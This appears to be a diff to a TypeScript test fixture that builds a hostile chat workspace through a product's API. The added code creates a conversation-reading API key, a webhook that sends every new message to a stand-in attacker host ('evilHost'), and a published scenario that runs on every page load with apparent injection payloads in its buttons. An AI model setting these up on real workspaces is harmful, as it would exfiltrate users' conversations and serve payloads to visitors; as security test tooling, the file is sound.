@@ -35,6 +35,7 @@ export interface HostileWorkspace {
   /** A page of the source. */
   item_id: string
   rule_id: string
+  scenario_id: string
   /** The visitor's token, for continuing as them. */
   token: string
   /** The copy of the content that the assistant quoted. */
@@ -165,7 +166,29 @@ async function nameEverything(call: Call, get: Get, at: string, contact_id: stri
   }
   const [item] = (await get<{ items: { id: string }[] }>(`${at}/data-source/${source.data.id}/item`)).items
   if (!item) throw new Error('the source has no page')
-  return { tag_id: tag.data.id, source_id: source.data.id, item_id: item.id, rule_id }
+  const scenario_id = await addScenario(call, at)
+  await call('POST', `${at}/api-key`, { name: picture, scopes: ['conversations:read'] })
+  await call('POST', `${at}/webhook`, {
+    url: `https://${evilHost}/?q=${picture}`,
+    events: ['message.created'],
+  })
+  return { tag_id: tag.data.id, source_id: source.data.id, item_id: item.id, rule_id, scenario_id }
+}
+
+/** Published: it starts beside the launcher of every page, as soon as someone visits it. */
+async function addScenario(call: Call, at: string): Promise<string> {
+  const path = `${at}/scenario/${crypto.randomUUID()}`
+  const buttons = [
+    { id: 'a', text: { en: picture, sk: drawing }, next: 'end' },
+    { id: 'b', text: { en: script, sk: link }, next: 'end' },
+  ]
+  const steps = [
+    { id: 'start', kind: 'buttons', text: { en: all, sk: all }, buttons },
+    { id: 'end', kind: 'end' },
+  ]
+  const flow = { trigger: { kind: 'page_opened' }, locales: ['en', 'sk'], start_step_id: 'start', steps }
+  await call('PUT', path, { name: picture, flow })
+  return (await call('POST', `${path}/publish`, {})).data.id
 }
 
 /** Makes the workspace by calls, with its owner signed in to the browser context. */
